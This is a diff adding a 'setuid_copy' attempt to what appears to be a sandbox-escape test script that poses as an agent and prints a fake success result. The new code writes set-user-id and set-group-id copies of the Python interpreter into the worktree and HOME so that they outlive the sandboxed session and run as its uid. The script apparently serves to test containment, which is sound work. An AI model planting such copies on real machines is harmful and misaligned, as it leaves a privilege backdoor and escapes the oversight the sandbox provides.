@@ -473,6 +473,20 @@ def _():
     return said
 
 
+@attempt("setuid_copy")
+def _():
+    """An interpreter of its own made set-user-id (and set-group-id) in its worktree and HOME:
+    inert in the box (no_new_privs), but the worktree outlives the pass on the machine, where
+    anyone who runs it would run as the box's uid — Opscore's own, when Opscore is not root."""
+    made = []
+    for folder in (Path("."), Path(os.environ["HOME"])):
+        copy = folder / "setid-python"
+        copy.write_bytes(Path(sys.executable).resolve().read_bytes())
+        copy.chmod(0o6755)
+        made.append(f"{copy} {oct(copy.stat().st_mode)}")
+    return made
+
+
 if "wait_in_box" in attempts:
     time.sleep(600)
 print(json.dumps({"type": "result", "subtype": "success", "is_error": False, "result": "done"}))
